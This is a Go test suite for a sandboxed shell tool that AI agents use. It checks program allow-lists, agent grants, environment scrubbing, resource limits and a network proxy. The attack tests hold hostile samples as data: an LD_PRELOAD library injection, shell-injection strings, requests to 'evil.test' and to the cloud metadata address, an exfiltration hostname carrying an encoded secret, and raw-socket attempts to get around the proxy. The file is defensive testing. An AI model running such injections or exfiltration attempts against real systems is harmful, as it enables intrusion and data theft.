package shell_test

import (
	"context"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"go.uber.org/goleak"

	"github.com/longshore-run/longshore/messages"
	"github.com/longshore-run/longshore/sandbox"
	"github.com/longshore-run/longshore/sandbox/process"
	"github.com/longshore-run/longshore/tools"
	"github.com/longshore-run/longshore/tools/confined"
	"github.com/longshore-run/longshore/tools/shell"
	"github.com/longshore-run/longshore/tools/toolstest"
)

func TestMain(m *testing.M) {
	process.Init()
	goleak.VerifyTestMain(m)
}

// runners are those of the tests, made once: each tries what this machine can enforce.
var runners = map[bool]func() (*process.Native, error){false: once(false), true: once(true)}

func once(noNamespaces bool) func() (*process.Native, error) {
	return sync.OnceValues(func() (*process.Native, error) {
		return process.New(context.Background(), process.Config{NoNamespaces: noNamespaces, Parallel: 4})
	})
}

// native is the runner of the tests. A machine without it fails them: they are about what it enforces.
func native(t *testing.T, noNamespaces bool) process.Runner {
	t.Helper()
	run, err := runners[noNamespaces]()
	if err != nil {
		t.Fatal(err)
	}
	return run
}

// all grants every program.
func all() shell.Config { return shell.Config{Programs: []string{"*"}, ShellString: true} }

func tool(t *testing.T, cfg shell.Config, run process.Runner) tools.Tool {
	t.Helper()
	made, err := shell.Tool(cfg, run)
	if err != nil {
		t.Fatal(err)
	}
	return made
}

// bench makes calls in one workspace.
type bench struct {
	t    *testing.T
	set  *tools.Set
	spec []messages.ToolSpec
	ws   *sandbox.Workspace
	dir  string
	call tools.Call // of every call, but for what it is about
}

func newBench(t *testing.T, cfg shell.Config, run process.Runner) *bench {
	t.Helper()
	set, err := tools.NewSet(tool(t, cfg, run))
	if err != nil {
		t.Fatal(err)
	}
	spec, err := set.Specs([]string{"shell"})
	if err != nil {
		t.Fatal(err)
	}
	b := &bench{t: t, set: set, spec: spec, dir: filepath.Join(t.TempDir(), "ws")}
	if b.ws, err = sandbox.Open(b.dir, sandbox.Limits{}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = b.ws.Close() })
	return b
}

// try makes a call.
func (b *bench) try(ctx context.Context, args map[string]any) (tools.Result, error) {
	b.t.Helper()
	raw, err := json.Marshal(args)
	if err != nil {
		b.t.Fatal(err)
	}
	checked, refusal := b.set.Check(messages.ToolCall{Name: "shell", Arguments: string(raw)}, b.spec)
	if refusal != nil {
		return *refusal, nil
	}
	c := b.call
	c.Run, c.ID, c.Key, c.Arguments, c.Workspace = messages.Ref{Tenant: "t", Run: "r"}, "c1", "r.1.c1", checked, b.ws
	return b.set.Call(ctx, "shell", c)
}

func (b *bench) do(args map[string]any) (string, tools.Result) {
	b.t.Helper()
	r, err := b.try(b.t.Context(), args)
	if err != nil {
		b.t.Fatal(err)
	}
	m := messages.Message{Content: r.Content}
	return m.Text(), r
}

func argv(words ...string) map[string]any { return map[string]any{"argv": words} }

// value is a part of the meta of a result.
func value[T any](t *testing.T, r tools.Result, key string) (v T) {
	t.Helper()
	raw, err := json.Marshal(r.Meta[key])
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(raw, &v); err != nil {
		t.Fatal(err)
	}
	return v
}

func TestConformance(t *testing.T) {
	t.Parallel()
	toolstest.Run(t, tool(t, all(), native(t, false)),
		toolstest.Case{Arguments: `{"argv":["cat","a.txt"]}`, Files: map[string]string{"a.txt": "text"}},
		toolstest.Case{Arguments: `{"command":"sleep 60","seconds":1}`, Fails: true},
		toolstest.Case{Arguments: `{"argv":["no-such-program"]}`, Fails: true},
		toolstest.Case{Arguments: `{"argv":["printf","\\377"]}`},
	)
}

// How a program ended and what it wrote is reported, in both modes.
func TestEndings(t *testing.T) {
	t.Parallel()
	for mode, without := range modes() {
		run := native(t, without)
		for name, tc := range map[string]struct {
			args    map[string]any
			limits  confined.Limits
			want    string // beginning
			isError bool
			reason  process.Reason
		}{
			"success":         {argv("printf", `a\nb\n`), confined.Limits{}, "exit code 0\nstdout:\na\nb", false, process.Exited},
			"silence":         {argv("true"), confined.Limits{}, "exit code 0\n(no output)", false, process.Exited},
			"both outputs":    {map[string]any{"command": "echo out; echo err >&2; exit 3"}, confined.Limits{}, "exit code 3\nstdout:\nout\nstderr:\nerr", true, process.Exited},
			"a signal":        {map[string]any{"command": "kill -9 $$"}, confined.Limits{}, "ended by the signal SIGKILL\n(no output)", true, process.Exited},
			"no time left":    {map[string]any{"command": "echo begun; sleep 60", "seconds": 1}, confined.Limits{}, "stopped: it ran for longer than 1s\nstdout:\nbegun", true, process.Timeout},
			"endless output":  {argv("yes", "no"), confined.Limits{Output: 1000}, "stopped: it wrote more output than it may\nstdout:\nno\nno\n", true, process.OutputLimit},
			"a large file":    {argv("dd", "if=/dev/zero", "of=big", "bs=1024", "count=64"), confined.Limits{FileSize: 4096}, "stopped: it wrote a file that is larger", true, process.FileLimit},
			"no such program": {argv("no-such-program"), confined.Limits{}, "Not run: path: there is no program", true, ""},
			"no input":        {argv("cat"), confined.Limits{}, "exit code 0\n(no output)", false, process.Exited},
			"a folder":        {map[string]any{"argv": []string{"pwd"}, "dir": "sub"}, confined.Limits{}, "exit code 0\nstdout:\n/", false, process.Exited},
			"a folder above":  {map[string]any{"argv": []string{"pwd"}, "dir": "../x"}, confined.Limits{}, "Not run: dir: ", true, ""},
			"not text":        {argv("printf", `\377`), confined.Limits{}, "exit code 0\nstdout:\n\uFFFD", false, process.Exited},
		} {
			t.Run(mode+"/"+name, func(t *testing.T) {
				t.Parallel()
				cfg := all()
				cfg.Limits = tc.limits
				b := newBench(t, cfg, run)
				if err := b.ws.Write("sub/a.txt", []byte("text")); err != nil {
					t.Fatal(err)
				}
				text, r := b.do(tc.args)
				if !strings.HasPrefix(text, tc.want) || r.IsError != tc.isError {
					t.Errorf("got %.300q, error %v", text, r.IsError)
				}
				if tc.reason != "" && (value[string](t, r, "reason") != string(tc.reason) || !without && tc.reason == process.Exited && value[int64](t, r, "maxMemory") <= 0 || !strings.Contains(value[string](t, r, "layers"), "landlock, seccomp")) {
					t.Errorf("meta %s", r.Meta)
				}
			})
		}
	}
}

// Only what the operator lists and the agent leaves is started.
func TestPrograms(t *testing.T) {
	t.Parallel()
	run := native(t, false)
	for name, tc := range map[string]struct {
		granted []string
		left    []string
		program string
		refused string
	}{
		"listed":              {[]string{"true"}, nil, "true", ""},
		"not listed":          {[]string{"true"}, nil, "false", `Refused: the program "false" is not one that the operator lists (true).`},
		"listed by name":      {[]string{"true"}, nil, "/bin/true", "is not one that the operator lists"},
		"listed by path":      {[]string{"/bin/true"}, nil, "/bin/true", ""},
		"a name in a folder":  {[]string{"true"}, nil, "./true", "is not one that the operator lists"},
		"all":                 {[]string{"*"}, nil, "true", ""},
		"left by the agent":   {[]string{"*"}, []string{"true"}, "true", ""},
		"not left":            {[]string{"*"}, []string{"false"}, "true", `the program "true" is not in the agent's grants`},
		"nothing left":        {[]string{"true"}, []string{}, "true", "is not in the agent's grants"},
		"agents cannot widen": {[]string{"true"}, []string{"false", "*"}, "false", "is not one that the operator lists"},
	} {
		b := newBench(t, shell.Config{Programs: tc.granted}, run)
		b.call.Grants = messages.Grants{Programs: tc.left}
		text, r := b.do(argv(tc.program))
		if tc.refused == "" && (r.IsError || !strings.HasPrefix(text, "exit code 0")) || tc.refused != "" && (r.Code != messages.CodePolicy || !strings.Contains(text, tc.refused)) {
			t.Errorf("%s: %s, %s", name, r.Code, text)
		}
	}
	// A command is read by a shell, which must be granted, and left, as any program.
	b := newBench(t, shell.Config{Programs: []string{"true"}}, run)
	if text, r := b.do(map[string]any{"command": "true"}); r.Code != messages.CodeInvalidInput || !strings.Contains(text, "command") {
		t.Errorf("without the grant: %s %s", r.Code, text)
	}
	b = newBench(t, all(), run)
	b.call.Grants = messages.Grants{Programs: []string{"true"}}
	if text, r := b.do(map[string]any{"command": "true"}); r.Code != messages.CodePolicy {
		t.Errorf("without a shell left: %s %s", r.Code, text)
	}
}

// Attack 71: nothing that a model can say changes the environment of a program, and the worker's is not in it.
func TestAttack71Environment(t *testing.T) {
	for _, name := range []string{"LD_PRELOAD", "BASH_ENV", "GIT_DIR", "PYTHONPATH", "TRACKER_TOKEN"} {
		t.Setenv(name, "/tmp/of-the-worker")
	}
	cfg := all()
	cfg.Env = map[string]string{"GOFLAGS": "-mod=vendor"}
	for mode, without := range modes() {
		b := newBench(t, cfg, native(t, without))
		text, r := b.do(argv("env"))
		var names []string
		for line := range strings.Lines(strings.TrimPrefix(text, "exit code 0\nstdout:\n")) {
			name, _, _ := strings.Cut(line, "=")
			names = append(names, name)
		}
		slices.Sort(names)
		if want := []string{"GOFLAGS", "HOME", "LANG", "PATH", "TMPDIR"}; r.IsError || !slices.Equal(names, want) || strings.Contains(text, "of-the-worker") {
			t.Errorf("%s: %s", mode, text)
		}
		for _, words := range [][]string{{"LD_PRELOAD=./evil.so", "true"}, {"PATH=.", "ls"}} {
			if text, r := b.do(argv(words...)); !r.IsError || !strings.HasPrefix(text, "Not run: ") {
				t.Errorf("%s: %q is run: %s", mode, words, text)
			}
		}
		if text, _ := b.do(map[string]any{"argv": []string{"true"}, "env": map[string]string{"LD_PRELOAD": "x"}}); !strings.Contains(text, "env") || strings.HasPrefix(text, "exit") {
			t.Errorf("%s: an argument sets the environment: %s", mode, text)
		}
	}
}

// Attack 72: arguments are passed as they are, whatever they begin with or hold.
func TestAttack72Arguments(t *testing.T) {
	t.Parallel()
	b := newBench(t, shell.Config{Programs: []string{"printf"}}, native(t, false))
	words := []string{"-n", "--help", "$(id)", "`id`", "; id", "| id", "> x", "$HOME", "*", "a b", "'", `"`, `\`, "", "&&", "\n", "日"}
	text, r := b.do(argv(append([]string{"printf", `%s\0`, "begin"}, words...)...))
	want := "exit code 0\nstdout:\n" + strings.Join(append([]string{"begin"}, words...), "\x00") + "\x00"
	if r.IsError || text != want {
		t.Errorf("got %q", text)
	}
	if left, err := os.ReadDir(b.dir); err != nil || len(left) > 0 {
		t.Errorf("the workspace holds %v, %v", left, err)
	}
	for name, args := range map[string]map[string]any{
		"a zero byte":  argv("printf", "a\x00b"),
		"none":         argv(),
		"no program":   argv("", "x"),
		"no arguments": {},
		"too many":     argv(append([]string{"printf"}, make([]string, 2000)...)...),
		"a long one":   argv("printf", strings.Repeat("x", 200<<10)),
		"a long time":  {"argv": []string{"printf"}, "seconds": 4000},
		"no time":      {"argv": []string{"printf"}, "seconds": -1},
	} {
		if text, r := b.do(args); r.Code != messages.CodeInvalidInput {
			t.Errorf("%s: %s %.100s", name, r.Code, text)
		}
	}
	b = newBench(t, all(), native(t, false))
	if text, r := b.do(map[string]any{"argv": []string{"true"}, "command": "true"}); r.Code != messages.CodeInvalidInput {
		t.Errorf("two programs: %s", text)
	}
}

// What a program starts ends with the call: a daemon of its own session too.
func TestBackgroundProcessesEnd(t *testing.T) {
	t.Parallel()
	for mode, without := range modes() {
		b := newBench(t, all(), native(t, without))
		const beat = `while :; do echo x >> %; sleep 0.02; done`
		one, other := strings.Replace(beat, "%", "one", 1), strings.Replace(beat, "%", "other", 1)
		began := time.Now()
		text, r := b.do(map[string]any{"command": "(" + one + ") & (setsid sh -c '" + other + "' 2>/dev/null &); until [ -s one ]; do sleep 0.01; done; echo now"})
		if r.IsError || text != "exit code 0\nstdout:\nnow" || time.Since(began) > 20*time.Second {
			t.Errorf("%s: %s after %v", mode, text, time.Since(began))
		}
		text, _ = b.do(map[string]any{"command": "cat one other > then; sleep 0.5; cat one other | cmp - then"})
		if strings.Contains(text, "differ") || strings.Contains(text, "EOF") {
			t.Errorf("%s: it continued: %s", mode, text)
		}
	}
}

// readable lets programs, which are another user, come to a folder of the test.
func readable(t *testing.T, dir string) {
	t.Helper()
	for ; dir != os.TempDir() && len(dir) > 1; dir = filepath.Dir(dir) {
		if err := os.Chmod(dir, 0o755); err != nil {
			t.Fatal(err)
		}
	}
}

// A program reads the folders that the operator lists and the agent leaves, and writes none of them.
func TestFolders(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "word"), []byte("known"), 0o644); err != nil {
		t.Fatal(err)
	}
	readable(t, dir)
	for mode, without := range modes() {
		cfg := all()
		cfg.Folders = []string{dir + "/word", dir, dir, "/usr/bin"}
		b := newBench(t, cfg, native(t, without))
		if text, _ := b.do(argv("cat", dir+"/word")); text != "exit code 0\nstdout:\nknown" {
			t.Errorf("%s: %s", mode, text)
		}
		if text, r := b.do(map[string]any{"command": "echo x > " + dir + "/word"}); !r.IsError {
			t.Errorf("%s: it is written: %s", mode, text)
		}
		b.call.Grants = messages.Grants{Folders: []string{"/usr/bin"}}
		if text, r := b.do(argv("cat", dir+"/word")); !r.IsError || strings.Contains(text, "known") {
			t.Errorf("%s: the agent leaves it not, and it is read: %s", mode, text)
		}
	}
}

// A program in a folder of the operator's path is found before those of the system, and PATH says so.
func TestPath(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "greet"), []byte("#!/bin/sh\necho \"hello $PATH\"\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	readable(t, dir)
	cfg := shell.Config{Programs: []string{"greet"}}
	cfg.Path = []string{dir}
	if text, _ := newBench(t, cfg, native(t, false)).do(argv("greet")); text != "exit code 0\nstdout:\nhello "+dir+":/usr/local/bin:/usr/bin:/bin" {
		t.Error(text)
	}
}

// What a program writes is passed on while it runs; the call ends only after the watcher has seen it.
func TestOutputIsPassedOn(t *testing.T) {
	t.Parallel()
	b := newBench(t, all(), native(t, false))
	var mu sync.Mutex
	var seen strings.Builder
	b.call.Output = func(text []byte) {
		mu.Lock()
		defer mu.Unlock()
		seen.Write(text)
		if strings.Contains(seen.String(), "ready") {
			if err := b.ws.Write("go", []byte("x")); err != nil {
				t.Error(err)
			}
		}
	}
	text, r := b.do(map[string]any{"command": "echo ready; until [ -e go ]; do sleep 0.01; done; echo done >&2", "seconds": 20})
	if r.IsError || seen.String() != "ready\ndone\n" {
		t.Errorf("%s, seen %q", text, &seen)
	}
}

// A call that is cancelled ends its program, and is no answer; the time of the agent ends it as the operator's does.
func TestCallsEnd(t *testing.T) {
	t.Parallel()
	b := newBench(t, all(), native(t, false))
	ctx, cancel := context.WithCancelCause(t.Context())
	why := errors.New("the run was cancelled")
	b.call.Output = func([]byte) { cancel(why) }
	if r, err := b.try(ctx, map[string]any{"command": "echo begun; sleep 60"}); !errors.Is(err, why) {
		t.Errorf("%+v, %v", r, err)
	}
	b.call.Output, b.call.Timeout = nil, 2*time.Second
	text, r := b.do(map[string]any{"command": "echo begun; sleep 60"})
	if !r.IsError || r.Code != messages.CodeToolFailed || text != "stopped: it ran for longer than 1s\nstdout:\nbegun" {
		t.Errorf("%s: %s", r.Code, text)
	}
	b.call.Begin = func() error { return why }
	if r, err := b.try(t.Context(), argv("touch", "made")); !errors.Is(err, why) {
		t.Errorf("a call of a run that is another worker's: %+v, %v", r, err)
	}
	if left, err := os.ReadDir(b.dir); err != nil || len(left) > 0 {
		t.Errorf("it had an effect: %v, %v", left, err)
	}
}

// Attack 79: a program with hosts reaches those through the proxy and nothing else: no address, no name server, and no host that the
// agent does not leave. What it asked for is in the meta of the result.
func TestAttack79Network(t *testing.T) {
	t.Parallel()
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { _, _ = w.Write([]byte("reached " + r.URL.Path)) }))
	t.Cleanup(s.Close)
	at := strings.TrimPrefix(s.URL, "http://")
	cfg := all()
	cfg.Hosts = []string{at, "*.example.com"}
	b := newBench(t, cfg, native(t, false))
	fetch := func(url string, more ...string) map[string]any {
		return argv(append([]string{"python3", "-c", `import sys, urllib.request as u
try: print(u.urlopen(sys.argv[1], timeout=10).read().decode())
except Exception as e: print(type(e).__name__, e, e.read().decode() if hasattr(e, "read") else "")`, url}, more...)...)
	}
	if text, _ := b.do(fetch("http://" + at + "/a")); !strings.Contains(text, "reached /a") {
		t.Fatalf("a listed host: %s", text)
	}
	for name, tc := range map[string]struct{ url, want string }{
		"off the list":    {"http://evil.test/", "403"},
		"another port":    {"http://127.0.0.1:1/", "403"},
		"cloud metadata":  {"http://169.254.169.254/", "403"},
		"off the list, s": {"https://evil.test/", "403"},
		"a name to carry": {"https://c2VjcmV0.evil.test/", "403"},
	} {
		text, r := b.do(fetch(tc.url))
		asked := value[[]confined.Host](t, r, "hosts")
		if !strings.Contains(text, tc.want) || len(asked) != 1 || asked[0].Refused != 1 || asked[0].Why == "" {
			t.Errorf("%s: %s, %+v", name, text, asked)
		}
	}
	direct := `import socket
for what in [lambda: socket.create_connection(("` + strings.Replace(at, ":", `", `, 1) + `), 2), lambda: socket.create_connection(("1.1.1.1", 53), 2),
	lambda: socket.getaddrinfo("example.com", 80), lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.53", 53))]:
	try:
		what(); print("REACHED")
	except OSError as e: print("no")`
	if text, _ := b.do(argv("python3", "-c", direct)); strings.Contains(text, "REACHED") || strings.Count(text, "no") != 4 {
		t.Errorf("past the proxy: %s", text)
	}
	b.call.Grants = messages.Grants{Hosts: []string{"*.example.com"}}
	if text, _ := b.do(fetch("http://" + at + "/a")); !strings.Contains(text, "403") || !strings.Contains(text, "is not in the agent's grants") {
		t.Errorf("a host that the agent does not leave: %s", text)
	}
	b.call.Grants = messages.Grants{Hosts: []string{}}
	if text, r := b.do(fetch("http://" + at + "/a")); strings.Contains(text, "reached") || r.Meta["hosts"] != nil {
		t.Errorf("no host is left: %s", text)
	}
	b.call.Grants, b.call.Reach = messages.Grants{}, func(string) error { return errors.New("the rules forbid it") }
	if text, _ := b.do(fetch("http://" + at + "/a")); !strings.Contains(text, "the rules forbid it") {
		t.Errorf("a host that the rules forbid: %s", text)
	}
	cfg.Hosts = nil
	if text, _ := newBench(t, cfg, native(t, false)).do(fetch("http://" + at + "/a")); strings.Contains(text, "reached") {
		t.Errorf("without hosts: %s", text)
	}
}

// Attack 73: without a layer that is required no program runs, and the tool is not offered.
func TestAttack73Unavailable(t *testing.T) {
	if os.Geteuid() == 0 {
		return // TestAsAnotherUser makes it: without namespaces no program runs at all for root
	}
	t.Parallel()
	without := native(t, true)
	for name, change := range map[string]func(*shell.Config){
		"a layer that is required": func(c *shell.Config) { c.Require = []string{"namespaces"} },
		"hosts need a network":     func(c *shell.Config) { c.Hosts = []string{"example.com"} },
	} {
		cfg := all()
		change(&cfg)
		b := newBench(t, cfg, without)
		if names := b.set.Names(); len(names) > 0 {
			t.Errorf("%s: offered are %v", name, names)
		}
		_, err := b.try(t.Context(), argv("touch", "made"))
		if e, ok := errors.AsType[*process.UnavailableError](err); !ok || e.Missing != process.LayerNamespaces {
			t.Errorf("%s: %v", name, err)
		}
		if left, err := os.ReadDir(b.dir); err != nil || len(left) > 0 {
			t.Errorf("%s: it had an effect: %v, %v", name, left, err)
		}
	}
}

func TestConfigurations(t *testing.T) {
	t.Parallel()
	run := native(t, false)
	for part, field := range map[string]string{
		`{"programs":["git"],"program":1}`: "program",
		`{}`:                               "programs",
		`{"programs":[]}`:                  "programs",
		`{"programs":[""]}`:                "programs[0]",
		`{"programs":["git"],"shellString":true}`:                             "shellString",
		`{"programs":["git"],"effect":"never"}`:                               "effect",
		`{"programs":["git"],"folders":["/srv/../etc"]}`:                      "folders[0]",
		`{"programs":["git"],"folders":["/"]}`:                                "folders[0]",
		`{"programs":["git"],"folders":["/proc/1"]}`:                          "folders[0]",
		`{"programs":["git"],"path":["bin"]}`:                                 "path[0]",
		`{"programs":["git"],"env":{"A=B":"x"}}`:                              "env.A=B",
		`{"programs":["git"],"hosts":["a b"]}`:                                "hosts",
		`{"programs":["git"],"require":["walls"]}`:                            "require",
		`{"programs":["git"],"limits":{"time":"2h"}}`:                         "limits.time",
		`{"programs":["git"],"limits":{"memory":1}}`:                          "limits.memory",
		`{"programs":["git"],"limits":{"wall":"1s"}}`:                         "limits.wall",
		`{"programs":["git"],"hosts":["example.com"],"limits":{"output":-1}}`: "limits.output",
	} {
		cfg, err := shell.ParseConfig([]byte(part))
		if err == nil {
			_, err = shell.Tool(cfg, run)
		}
		if fe, ok := errors.AsType[*messages.FieldError](err); !ok || fe.Field != field {
			t.Errorf("%s: %v", part, err)
		}
	}
	cfg, err := shell.ParseConfig([]byte(`{"programs":["sh"],"shellString":true,"effect":"read","limits":{"time":"5s"}}`))
	if err != nil {
		t.Fatal(err)
	}
	if spec := tool(t, cfg, run).Spec(); spec.Effect != messages.EffectRead || spec.SafeByDefault || !strings.Contains(string(spec.InputSchema), "command") {
		t.Errorf("%+v", spec)
	}
}
